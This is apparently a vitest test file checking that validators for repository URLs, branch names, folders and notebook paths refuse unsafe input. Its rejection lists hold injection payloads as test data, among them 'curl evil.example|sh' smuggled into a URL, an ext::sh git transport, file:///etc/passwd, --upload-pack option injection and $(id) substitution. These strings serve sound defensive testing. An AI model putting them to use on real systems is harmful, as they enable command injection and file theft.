import { describe, expect, test } from 'vitest';
import { parseBranch, parseFolder, parseNotebook, parseRepoUrl } from './repo';

describe('parseRepoUrl', () => {
	test.each([
		{
			raw: 'https://github.com/ryanmark1867/dl_structured_data_hands_on',
			url: 'https://github.com/ryanmark1867/dl_structured_data_hands_on',
		},
		{
			raw: 'https://github.com/ryanmark1867/dl_structured_data_hands_on.git',
			url: 'https://github.com/ryanmark1867/dl_structured_data_hands_on.git',
		},
		{ raw: 'https://github.com/a/b/', url: 'https://github.com/a/b' },
		{ raw: 'https://github.com/a/b.git/', url: 'https://github.com/a/b.git' },
		{ raw: '  https://gitlab.com/team-1/my.repo  ', url: 'https://gitlab.com/team-1/my.repo' },
		{ raw: 'https://codeberg.org/x/y_z', url: 'https://codeberg.org/x/y_z' },
		{ raw: 'https://bitbucket.org/x/y-z', url: 'https://bitbucket.org/x/y-z' },
		{ raw: 'https://github.com/a/b.git.git', url: 'https://github.com/a/b.git.git' },
	])('accepts $raw as $url', ({ raw, url }) => {
		const parsed = parseRepoUrl(raw);
		expect(parsed.ok && parsed.value.url).toBe(url);
	});

	test('splits host, owner and name, keeping a written .git in the URL only', () => {
		expect(parseRepoUrl('https://gitlab.com/o-1/n.x.git')).toEqual({
			ok: true,
			value: { host: 'gitlab.com', owner: 'o-1', name: 'n.x', url: 'https://gitlab.com/o-1/n.x.git' },
		});
	});

	test.each([
		'http://github.com/a/b',
		'https://GitHub.com/a/b',
		'https://github.com/a',
		'https://github.com/a/b/c',
		'https://github.com/a/b?tab=readme',
		'https://github.com/a/b#readme',
		'https://github.com:443/a/b',
		'https://user@github.com/a/b',
		'https://github.com@evil.example/a/b',
		'https://github.com.evil.example/a/b',
		'https://g\u0456thub.com/a/b',
		'https://xn--gthub-2ve.com/a/b',
		'https://github.com/-a/b',
		'https://github.com/a/-b',
		'https://github.com/a/.b',
		'https://github.com/a/..',
		'https://github.com/a/b..c',
		'https://github.com/a/.git',
		'https://github.com/a_b/c',
		`https://github.com/${'o'.repeat(40)}/b`,
		`https://github.com/a/${'n'.repeat(101)}`,
		'https://github.com/a/b;curl evil.example|sh',
		'https://github.com/a/b\ncurl',
		'git@github.com:a/b.git',
		'ext::sh -c touch% /tmp/pwned',
		'file:///etc/passwd',
		'javascript:alert(1)',
	])('refuses %j', (raw) => {
		expect(parseRepoUrl(raw)).toEqual({ ok: false, reason: 'rejected' });
	});

	test.each([
		{ raw: '', reason: 'empty' },
		{ raw: '   ', reason: 'empty' },
		{ raw: `https://github.com/a/${'b'.repeat(10_000)}`, reason: 'too-large' },
	])('refuses $reason input', ({ raw, reason }) => {
		expect(parseRepoUrl(raw)).toEqual({ ok: false, reason });
	});
});

describe('parseBranch', () => {
	test.each(['master', 'main', 'feature/x-1', 'v1.2.3', 'release_2026'])('accepts %s', (raw) => {
		expect(parseBranch(raw)).toEqual({ ok: true, value: raw });
	});
	test.each([
		'-b',
		'--upload-pack=x',
		'a..b',
		'a//b',
		'a/',
		'/a',
		'a.lock',
		'a/.b',
		'a.',
		'a b',
		'a;b',
		'a$(id)',
		'a`id`',
		'{x}',
		'a~1',
		'a:b',
		'x'.repeat(101),
	])('refuses %j', (raw) => {
		expect(parseBranch(raw).ok).toBe(false);
	});
});

describe('parseFolder', () => {
	test.each(['dl_workshop', 'courses/dl-2026', 'a.b'])('accepts %s', (raw) => {
		expect(parseFolder(raw)).toEqual({ ok: true, value: raw });
	});
	test.each(['My Drive', '../x', 'a/../b', '/abs', 'a/', 'a//b', '-x', '$HOME', '{x}', 'a"b', 'é', 'x'.repeat(101)])(
		'refuses %j',
		(raw) => {
			expect(parseFolder(raw).ok).toBe(false);
		},
	);
});

describe('parseNotebook', () => {
	test.each(['notebooks/streetcar_model_training.ipynb', 'a.ipynb', 'x/y/z-1.ipynb'])('accepts %s', (raw) => {
		expect(parseNotebook(raw)).toEqual({ ok: true, value: raw });
	});
	test.each(['notebook.py', 'a/.ipynb', '../a.ipynb', 'a b.ipynb', 'a.ipynb;x', 'javascript:x.ipynb'])('refuses %j', (raw) => {
		expect(parseNotebook(raw).ok).toBe(false);
	});
});
